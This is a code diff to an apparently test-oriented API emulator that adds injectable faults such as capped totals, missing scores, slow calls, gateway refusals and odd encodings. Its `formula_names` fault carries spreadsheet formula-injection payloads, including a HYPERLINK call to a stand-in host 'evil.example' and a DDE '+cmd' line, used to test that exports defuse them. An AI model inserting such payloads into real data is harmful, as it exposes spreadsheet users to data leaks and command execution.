@@ -1,5 +1,8 @@
 import { z } from 'zod';
 
+/** How the `missing_score` fault sends the score it cannot compute. */
+export const MISSING_SCORE_FORMS = ['null', 'nan', 'marker', 'absent'] as const;
+
 /** The paging parameters the emulator can be told to page its GET lists by. */
 export const EMULATOR_PAGING_STYLES = ['from', 'offset', 'skip', 'start', 'page'] as const;
 
@@ -83,6 +86,65 @@ export const FaultsSchema = z
     redirect: z.enum(['none', 'trailing-slash', 'other-origin']),
     /** API error answers as an HTML page (`text/html`), as a gateway in front would send them. */
     html_errors: z.boolean(),
+    /**
+     * Names (activity, product, unit, method, category, indicator, search names, sectors) start
+     * like spreadsheet formulas (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-1+1`, a tab), each
+     * name always the same way: what no export may hand a spreadsheet to evaluate.
+     */
+    formula_names: z.boolean(),
+    /**
+     * Lists' `total` is never above this: a search engine that counts exactly only up to a
+     * threshold and passes the bound on as the total. The lists themselves go on to their end.
+     */
+    total_cap: z.number().int().min(0).nullable(),
+    /**
+     * `names`: `/versions` lists system models by their long names ("Allocation, cut-off by
+     * classification"), which the data routes do not take (they take `cutoff`); `other`: by
+     * names of nobody's vocabulary ("Cut-off (by classification)"), which no client can map.
+     */
+    versions_vocabulary: z.enum(['codes', 'names', 'other']),
+    /**
+     * One indicator whose score the service cannot compute, in every dataset: its row's `score`
+     * sent as `null`, as a bare `NaN` (what Python's json writes: not JSON), as a marker string
+     * (`"n/a"`), or its row left out (`absent`). Billed as any other asked-for indicator.
+     */
+    missing_score: z
+      .object({
+        indicator: z.number().int().positive(),
+        as: z.enum(MISSING_SCORE_FORMS),
+      })
+      .strict()
+      .nullable(),
+    /**
+     * A share of API requests (those whose path contains `match`, when given) answered `ms` late:
+     * a service where one call in ten takes longer than a client's patience.
+     */
+    slow_calls: z
+      .object({
+        rate: z.number().min(0).max(1),
+        ms: z.number().int().min(0).max(120_000),
+        match: z.string().max(200).optional(),
+      })
+      .strict()
+      .nullable(),
+    /**
+     * A gateway in front of the API refuses requests with a 403 and a body of its own
+     * (`{"message": "Forbidden"}`): `token`, the first token it sees from now on, before its
+     * `expires_in` (a fresh token passes); `always`, every request.
+     */
+    gateway_refusal: z.enum(['none', 'token', 'always']),
+    /**
+     * API answers sent encoded whatever the client asked: `gzip`, `deflate`, `br`, or
+     * `compress` (gzip bytes labelled with an encoding nobody decodes any more).
+     */
+    content_encoding: z.enum(['identity', 'gzip', 'deflate', 'br', 'compress']),
+    /**
+     * How "no such dataset in this release" is said (one dataset, the Spold lookup, a batch of
+     * none): the API's JSON `404`, or `200` with `null` or `{}`.
+     */
+    absent_as: z.enum(['404', 'null', 'empty']),
+    /** "No such dataset" answers take this many milliseconds more (every shard looked in first). */
+    not_found_ms: z.number().int().min(0).max(120_000),
   })
   .strict();
 export type Faults = z.infer<typeof FaultsSchema>;
@@ -110,6 +172,15 @@ export function defaultFaults(tokenTtlSeconds: number): Faults {
     token_answer: 'keycloak',
     redirect: 'none',
     html_errors: false,
+    formula_names: false,
+    total_cap: null,
+    versions_vocabulary: 'codes',
+    missing_score: null,
+    slow_calls: null,
+    gateway_refusal: 'none',
+    content_encoding: 'identity',
+    absent_as: '404',
+    not_found_ms: 0,
   };
 }
 
@@ -137,6 +208,54 @@ export function nullKeys(value: unknown, field: string): unknown {
   );
 }
 
+/** The keys whose text `formula_names` turns into formulas, and lists of such text. */
+const NAME_KEYS = new Set([
+  'activity',
+  'product',
+  'reference product',
+  'name',
+  'unit',
+  'method',
+  'category',
+  'indicator',
+]);
+const NAME_LISTS = new Set(['sectors']);
+
+/**
+ * What a hostile or careless source could name a dataset: each name gets one of the formula
+ * starts OWASP lists, chosen by the name itself so that a name reads the same in every answer
+ * and release (matching by names keeps working).
+ */
+const FORMULAS: readonly ((name: string) => string)[] = [
+  (name) => `=HYPERLINK("http://evil.example/?leak","${name}")`,
+  (name) => `+cmd|' /C calc'!A0 ${name}`,
+  (name) => `@SUM(1) ${name}`,
+  (name) => `-1+1 ${name}`,
+  (name) => `\t${name}`,
+];
+function formulaOf(name: string): string {
+  let sum = 0;
+  for (let i = 0; i < name.length; i++) sum += name.charCodeAt(i);
+  const formula = FORMULAS[sum % FORMULAS.length];
+  return formula ? formula(name) : name;
+}
+
+/** `value` with every name (NAME_KEYS, NAME_LISTS) starting like a spreadsheet formula. */
+export function formulaNames(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(formulaNames);
+  if (typeof value !== 'object' || value === null) return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([key, child]) => [
+      key,
+      NAME_KEYS.has(key) && typeof child === 'string'
+        ? formulaOf(child)
+        : NAME_LISTS.has(key) && Array.isArray(child)
+          ? child.map((item: unknown) => (typeof item === 'string' ? formulaOf(item) : item))
+          : formulaNames(child),
+    ]),
+  );
+}
+
 /** Score rows under other names, as a service whose scores moved on might send them. */
 export function renameScores(value: unknown): unknown {
   if (Array.isArray(value)) return value.map(renameScores);
@@ -151,6 +270,32 @@ export function renameScores(value: unknown): unknown {
           })
         : renameScores(child),
     ]),
+  );
+}
+
+/** An answer's top-level `total` no larger than `cap`. */
+export function capTotal(value: unknown, cap: number): unknown {
+  if (typeof value !== 'object' || value === null || Array.isArray(value)) return value;
+  const total = (value as { total?: unknown }).total;
+  return typeof total === 'number' && total > cap ? { ...value, total: cap } : value;
+}
+
+/** Stands for a bare NaN until the JSON is written (JSON.stringify cannot write one). */
+export const NAN_PLACEHOLDER = '__emulator_NaN__';
+
+/** Score rows of `missing.indicator` without their score, as `missing.as` says, at any depth. */
+export function missScore(value: unknown, missing: NonNullable<Faults['missing_score']>): unknown {
+  if (Array.isArray(value)) return value.map((item) => missScore(item, missing));
+  if (typeof value !== 'object' || value === null) return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([key, child]) => {
+      if (key !== 'impact_scores' || !Array.isArray(child)) return [key, missScore(child, missing)];
+      const rows = child as Record<string, unknown>[];
+      if (missing.as === 'absent') return [key, rows.filter((row) => row.id !== missing.indicator)];
+      const score =
+        missing.as === 'null' ? null : missing.as === 'marker' ? 'n/a' : NAN_PLACEHOLDER;
+      return [key, rows.map((row) => (row.id === missing.indicator ? { ...row, score } : row))];
+    }),
   );
 }
 
